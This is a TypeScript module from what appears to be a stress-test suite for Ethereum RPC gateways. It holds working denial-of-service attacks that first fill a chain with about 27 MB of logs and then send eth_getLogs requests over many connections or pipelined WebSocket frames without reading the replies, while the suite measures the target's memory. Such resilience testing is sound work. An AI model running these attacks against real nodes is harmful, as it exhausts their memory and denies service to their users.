import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { WebSocket } from 'ws'
import type { Attack } from '../attack.ts'
import type { KeyClient } from '../client.ts'
import { frame, postOf } from '../rawSockets.ts'
import type { Target } from '../target.ts'

/** Emits 3,000 logs of 32 bytes each. */
const emitter = '610bb85b8015601657600190038060206000a1600356' + '5b00'
const blocks = 20

const made = new WeakSet<Target>()

/** Makes the chain of a target hold 60,000 logs, whose answer has 27 MB. */
export async function makeLogs(target: Target): Promise<void> {
  if (made.has(target)) return
  made.add(target)
  const { attacker, account } = target
  const length = (emitter.length / 2).toString(16).padStart(2, '0')
  const data = `0x60${length}600c60003960${length}6000f3${emitter}`
  const hash = await attacker.text('eth_sendTransaction', [{ from: account, data, gas: '0x30d40' }])
  const { result } = await attacker.ask('eth_getTransactionReceipt', [hash])
  const to = (result as { contractAddress: string }).contractAddress
  for (let block = 0; block < blocks; block++) {
    await attacker.text('eth_sendTransaction', [{ from: account, to, gas: '0x5b8d80' }])
  }
}

export const allLogs =
  '{"jsonrpc":"2.0","id":1,"method":"eth_getLogs","params":[{"fromBlock":"0x0","toBlock":"latest"}]}'

/** Sends requests over one connection and reads nothing. */
async function askWithoutReading({ url }: KeyClient, count: number): Promise<Socket> {
  const socket = connect(Number(url.port), url.hostname)
  socket.on('error', () => {})
  await once(socket, 'connect')
  socket.pause()
  socket.write(postOf(url.pathname, allLogs).repeat(count))
  return socket
}

export const unreadAnswers: Attack = {
  name: 'unread',
  aim: 'asks for 27 MB over many connections, HTTP and WebSocket, and reads nothing',
  isForGateways: true,
  async run({ target, isLong }) {
    await makeLogs(target)
    const connections = isLong ? 200 : 40
    let highestMiB = 0
    const sockets: Socket[] = []
    for (let index = 0; index < connections; index++) {
      sockets.push(await askWithoutReading(target.attacker, 20))
      highestMiB = Math.max(highestMiB, target.memoryMiB())
      await pause(20)
    }
    await pause(3_000)
    highestMiB = Math.max(highestMiB, target.memoryMiB())
    for (const socket of sockets) socket.destroy()
    return {
      figures: `${connections} connections × 20 requests for 27 MB; at most ${Math.round(highestMiB)} MiB`,
      violations: [],
    }
  },
}

export const pipelinedFrames: Attack = {
  name: 'frames',
  aim: 'sends thousands of requests for long answers in one chunk of a WebSocket, and reads nothing',
  isForGateways: true,
  async run({ target }) {
    const opened = new WebSocket(target.attacker.url.href.replace('http', 'ws'))
    const raw = await new Promise<Socket>((resolve, reject) => {
      opened.once('upgrade', ({ socket }) => opened.once('open', () => resolve(socket)))
      opened.once('error', reject)
    })
    raw.pause()
    raw.write(Buffer.concat(Array.from({ length: 5_000 }, () => frame(allLogs))))
    let highestMiB = 0
    for (let sample = 0; sample < 20; sample++) {
      await pause(200)
      highestMiB = Math.max(highestMiB, target.memoryMiB())
    }
    opened.terminate()
    return {
      figures: `5,000 requests for 27 MB in one write; at most ${Math.round(highestMiB)} MiB`,
      violations: [],
    }
  },
}
